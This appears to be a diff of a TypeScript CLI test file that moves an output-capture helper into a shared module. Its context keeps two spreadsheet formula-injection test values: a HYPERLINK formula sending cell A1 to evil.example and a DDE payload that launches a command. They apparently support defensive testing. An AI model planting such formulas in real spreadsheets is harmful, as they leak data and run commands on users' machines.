@@ -14,23 +14,13 @@ import {
 import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { strFromU8, unzipSync } from "fflate";
-import { main, type Io } from "../../src/cli/main";
+import { main } from "../../src/cli/main";
 import { DEFAULT_PROFILE } from "../../src/core/profile";
 import { readXlsx } from "../../src/xlsx/read";
 import { reportBytes, type Edit } from "../helpers/report-builder";
+import { capture } from "../helpers/cli-io";
 
 const repo = join(__dirname, "..", "..");
-
-function capture(): Io & { stdout: string; stderr: string } {
-  const io = {
-    stdout: "",
-    stderr: "",
-    isErrTty: false,
-    out: (t: string) => void (io.stdout += t),
-    err: (t: string) => void (io.stderr += t),
-  };
-  return io;
-}
 
 const NAME = '=HYPERLINK("http://evil.example/?"&A1,"Sở A")';
 const OWN_TASK = "+cmd|' /C calc'!A0";
